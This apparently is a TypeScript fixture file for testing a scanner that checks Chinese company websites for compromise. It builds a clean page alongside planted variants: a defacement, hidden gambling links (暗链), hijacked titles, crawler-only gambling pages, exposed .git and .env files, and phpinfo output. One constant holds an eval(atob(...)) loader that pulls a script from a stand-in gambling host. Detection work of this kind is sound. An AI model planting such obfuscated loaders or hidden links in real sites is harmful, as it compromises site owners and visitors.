/** HTML of the fixture sites: the good site's page and the planted variants (spec §7). */

export const COMPANY = '北京示例科技有限公司';
export const ICP_NUMBER = '京ICP备12345678号-1';
export const PSB_NUMBER = '京公网安备11010502000001号';
export const PSB_CODE = '11010502000001';

export type PageParts = { title: string; head: string; main: string; footer: string; bodyEnd: string };

const YEAR = new Date().getUTCFullYear();

export function icpLink(number: string = ICP_NUMBER): string {
  return `<a href="https://beian.miit.gov.cn/" target="_blank" rel="noopener">${number}</a>`;
}

export function psbLink(number: string = PSB_NUMBER, code: string = PSB_CODE): string {
  return `<a href="http://www.beian.gov.cn/portal/registerSystemInfo?recordcode=${code}" target="_blank" rel="noopener">`
    + `<img src="/img/beian.png" alt="">${number}</a>`;
}

export function footer(icp: string = icpLink(), psb: string = psbLink()): string {
  return `<footer class="site-footer"><p>地址：北京市朝阳区示例路88号\u3000电话：010-00000000\u3000邮箱：service@example.cn</p>`
    + `<p>© 2012-${YEAR} ${COMPANY} 版权所有\u3000${icp}\u3000${psb}</p></footer>`;
}

export const NAV = '<header><h1 class="logo">北京示例科技有限公司</h1><nav><a href="/">首页</a> <a href="/about.html">关于我们</a> '
  + '<a href="/products.html">产品服务</a> <a href="/news.html">新闻动态</a> <a href="/contact.html">联系我们</a></nav></header>';

export const GOOD_MAIN = `<main>
<section><h2>公司简介</h2><p>北京示例科技有限公司成立于2012年，是一家专注于企业信息化建设的高新技术企业。公司致力于为政府、教育、医疗和制造业客户提供软件开发、系统集成与运维服务，拥有一支经验丰富、认真负责的技术团队，先后通过质量管理体系与信息安全管理体系认证。</p>
<p>我们坚持以客户为中心，以技术创新为动力，为客户提供安全、稳定、高效的信息化解决方案。多年来公司服务客户三百余家，覆盖北京、天津、河北等地区。</p></section>
<section><h2>产品服务</h2><ul><li>企业门户网站建设与托管</li><li>办公自动化系统定制开发</li><li>数据备份与容灾方案设计</li><li>信息系统运维外包服务</li><li>网络安全等级保护咨询</li></ul></section>
<section><h2>新闻动态</h2><ul><li><a href="/news/1.html">公司荣获年度优秀服务商称号</a> <span>${YEAR}-03-18</span></li>
<li><a href="/news/2.html">我司参加全国信息化应用博览会</a> <span>${YEAR}-01-09</span></li>
<li><a href="/news/3.html">新版客户服务平台正式上线</a> <span>${YEAR - 1}-11-25</span></li></ul></section>
<section><h2>联系我们</h2><p>欢迎来电咨询，我们的客服人员将在工作日九点至十八点为您提供服务。</p></section>
</main>`;

export function goodParts(): PageParts {
  return {
    title: `${COMPANY} - 企业信息化服务`,
    head: `<meta name="description" content="${COMPANY}提供软件开发、系统集成与运维服务"><meta name="keywords" content="软件开发,系统集成,运维服务">`
      + '<link rel="stylesheet" href="/css/site.css">',
    main: GOOD_MAIN,
    footer: footer(),
    bodyEnd: '<script src="/js/site.js"></script>',
  };
}

export function renderPage(p: PageParts): string {
  return `<!doctype html>\n<html lang="zh-CN"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1">`
    + `<title>${p.title}</title>${p.head}</head>\n<body>${NAV}\n${p.main}\n${p.footer}\n${p.bodyEnd}</body></html>\n`;
}

/** The good site's home page, also the baseline of `defaced` and `redesigned`. */
export function goodPageHtml(): string {
  return renderPage(goodParts());
}

export const NOT_FOUND_HTML = '<!doctype html><html><head><meta charset="utf-8"><title>404 Not Found</title></head>'
  + '<body><h1>404 Not Found</h1><p>您访问的页面不存在。</p><hr><p>nginx</p></body></html>\n';

export const NGINX_DEFAULT_HTML = `<!DOCTYPE html>
<html>
<head>
<title>Welcome to nginx!</title>
<style>
html { color-scheme: light dark; }
body { width: 35em; margin: 0 auto;
font-family: Tahoma, Verdana, Arial, sans-serif; }
</style>
</head>
<body>
<h1>Welcome to nginx!</h1>
<p>If you see this page, the nginx web server is successfully installed and
working. Further configuration is required.</p>

<p>For online documentation and support please refer to
<a href="http://nginx.org/">nginx.org</a>.<br/>
Commercial support is available at
<a href="http://nginx.com/">nginx.com</a>.</p>

<p><em>Thank you for using nginx.</em></p>
</body>
</html>
`;

export const PARKED_HTML = `<!doctype html><html><head><meta charset="utf-8"><title>This domain is for sale - 域名出售</title></head>
<body><div class="parked"><h1>This domain is for sale!</h1><p>该域名出售中，如有意购买请联系我们。</p>
<p>The domain owner is offering this domain for sale. Make an offer today.</p>
<p><a href="https://www.sedoparking.com/">Buy this domain</a></p>
<script src="https://www.sedoparking.com/frmpark/parking.js"></script></div></body></html>
`;

export const DEFACED_MAIN = `<main><h1 style="color:red">Hacked by Sh4d0w T3am</h1>
<p>Your security is zero. 你的网站被黑了，请管理员尽快修复漏洞。</p>
<p>We are everywhere. Greetz to all members.</p></main>`;

export const REDESIGNED_MAIN = `<main>
<section class="hero"><h2>数字化转型，从这里开始</h2><p>全新改版的官方网站为您呈现更清晰的服务体系。我们围绕云计算、大数据分析和智能运维三大方向，帮助机构客户提升业务效率、降低运营成本。</p></section>
<section><h2>解决方案</h2><ol><li>政务云平台迁移与托管</li><li>校园数据中台建设</li><li>医院信息系统集成</li><li>工厂设备物联监控</li></ol>
<p>每一个方案都由资深架构师牵头设计，并提供全生命周期的咨询、实施与售后保障。</p></section>
<section><h2>客户案例</h2><p>某市教育局统一身份认证平台、某三甲医院影像归档系统、某汽车零部件企业制造执行系统。</p></section>
<section><h2>加入我们</h2><p>诚聘前端工程师、后端工程师、测试工程师与项目经理，欢迎投递简历。</p></section>
</main>`;

const GAMBLING_LINKS: readonly [string, string][] = [
  ['www.dubo-a.example', '澳门赌场'], ['www.dubo-a.example', '真人百家乐'], ['www.dubo-a.example', '网上赌博'],
  ['www.dubo-b.example', '六合彩开奖'], ['www.dubo-b.example', '时时彩计划'], ['www.dubo-b.example', '体育博彩'],
  ['www.dubo-c.example', '皇冠体育投注'], ['www.dubo-c.example', '线上娱乐城'], ['www.dubo-c.example', '棋牌赌博'],
  ['www.dubo-d.example', '老虎机在线'], ['www.dubo-d.example', '赌球网站'], ['www.dubo-d.example', '葡京娱乐'],
];

/** Twelve gambling links in an off-screen block (暗链), to four hosts. */
export const HIDDEN_LINKS_HTML = '<div style="position:absolute;left:-9999px;top:-9999px;overflow:hidden">'
  + GAMBLING_LINKS.map(([host, label], i) => `<a href="http://${host}/?id=${i + 1}">${label}</a>`).join(' ')
  + '</div>';

export const HIJACKED_TITLE = `澳门新葡京娱乐城_真人百家乐_网上赌博平台_${COMPANY}`;
export const HIJACKED_META = '<meta name="keywords" content="澳门赌场,真人百家乐,网上赌博,六合彩">'
  + '<meta name="description" content="澳门新葡京娱乐城官方网站，真人百家乐、体育博彩在线投注">';

export const ANTI_GAMBLING_ARTICLE = `<section class="article"><h2>严厉打击网络赌博违法犯罪活动的倡议</h2>
<p>近期，公安机关持续开展打击整治网络赌博违法犯罪专项行动。我司积极响应，组织全体员工学习相关法律法规，严禁员工参与任何形式的网络赌博、六合彩、百家乐等赌博活动。</p>
<p>如发现利用网络开设赌场、招揽赌客等违法线索，请及时向公安机关举报，举报电话110。让我们共同抵制赌博，远离违法犯罪。</p></section>`;

export const SPIDER_GAMBLING_HTML = `<!doctype html><html><head><meta charset="utf-8"><title>澳门新葡京_真人百家乐_网上赌博首选平台</title>
<meta name="keywords" content="澳门赌场,真人百家乐,网上赌博,体育博彩"></head>
<body><h1>澳门新葡京娱乐城</h1><p>真人百家乐、老虎机、体育博彩、六合彩在线投注，注册即送彩金，网上赌博首选平台。</p>
<p><a href="http://www.dubo-a.example/">立即注册</a> <a href="http://www.dubo-b.example/">时时彩计划</a> <a href="http://www.dubo-c.example/">皇冠体育投注</a></p></body></html>
`;

/** `eval(atob(...))` of a loader for an off-site script: the content is never executed anywhere. */
export const INJECTED_SCRIPT = `<script>eval(atob("${Buffer.from(
  "var s=document.createElement('script');s.src='http://js.dubo-a.example/t.js';document.body.appendChild(s);",
).toString('base64')}"));</script>`;

export const SPA_SHELL_HTML = `<!doctype html><html lang="zh-CN"><head><meta charset="utf-8"><title>${COMPANY}</title>
<script type="module" src="/assets/app.js"></script></head><body><div id="app"></div><noscript>请启用 JavaScript</noscript></body></html>
`;

export const SPA_APP_JS = `const app = document.getElementById('app');
app.innerHTML = '<h1>${COMPANY}</h1><footer><a href="https://beian.miit.gov.cn/">${ICP_NUMBER}</a> ${PSB_NUMBER}</footer>';
`;

/** ICP number in full-width forms (京ＩＣＰ备１２３４５６７８号－１), as some sites typeset it. */
export function toFullWidth(s: string): string {
  return [...s].map((ch) => {
    const c = ch.codePointAt(0) ?? 0;
    return c >= 0x21 && c <= 0x7e ? String.fromCodePoint(c + 0xfee0) : ch;
  }).join('');
}

export const GIT_HEAD = 'ref: refs/heads/master\n';
export const GIT_CONFIG = '[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n\tlogallrefupdates = true\n'
  + '[remote "origin"]\n\turl = git@git.example.cn:web/site.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n';

export const DOT_ENV = 'APP_NAME=site\nAPP_ENV=production\nAPP_KEY=base64:c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0MTIzNDU2\n'
  + 'APP_DEBUG=true\nDB_CONNECTION=mysql\nDB_HOST=127.0.0.1\nDB_DATABASE=site\nDB_USERNAME=root\nDB_PASSWORD=FixtureOnly123\n';

export const UPLOAD_LISTING = `<html><head><title>Index of /upload/</title></head><body><h1>Index of /upload/</h1><hr><pre><a href="../">../</a>
<a href="contract-2023.pdf">contract-2023.pdf</a>                                  12-Mar-2024 10:21              284113
<a href="id-cards.xlsx">id-cards.xlsx</a>                                      02-Apr-2024 16:05               90422
</pre><hr></body></html>
`;

export const PHPINFO_HTML = `<!DOCTYPE html><html><head><title>PHP 7.4.3 - phpinfo()</title></head><body><div class="center">
<table><tr class="h"><td><h1 class="p">PHP Version 7.4.3</h1></td></tr></table>
<table><tr><td class="e">System </td><td class="v">Linux web01 4.15.0 x86_64 </td></tr>
<tr><td class="e">Server API </td><td class="v">FPM/FastCGI </td></tr>
<tr><td class="e">Loaded Configuration File </td><td class="v">/etc/php/7.4/fpm/php.ini </td></tr></table></div></body></html>
`;

export function stackTrace404(path: string): string {
  return `<!doctype html><html><head><title>Error</title></head><body><h1>Whoops, looks like something went wrong.</h1>
<pre>
Fatal error: Uncaught Exception: No route for ${path.replace(/[<>&"]/g, '')} in /var/www/html/app/Router.php:88
Stack trace:
#0 /var/www/html/index.php(12): App\\Router->dispatch('GET')
#1 {main}
  thrown in /var/www/html/app/Router.php on line 88
</pre></body></html>
`;
}

/** A small but well-formed-looking zip: local file header magic, then filler. */
export function fakeZip(size: number): Buffer {
  const name = Buffer.from('www/index.php');
  const header = Buffer.alloc(30);
  header.writeUInt32LE(0x04034b50, 0); // PK\3\4
  header.writeUInt16LE(20, 4);
  header.writeUInt16LE(name.length, 26);
  const body = Buffer.alloc(Math.max(0, size - header.length - name.length));
  for (let i = 0; i < body.length; i++) body[i] = (i * 31 + 7) & 0xff;
  return Buffer.concat([header, name, body]);
}
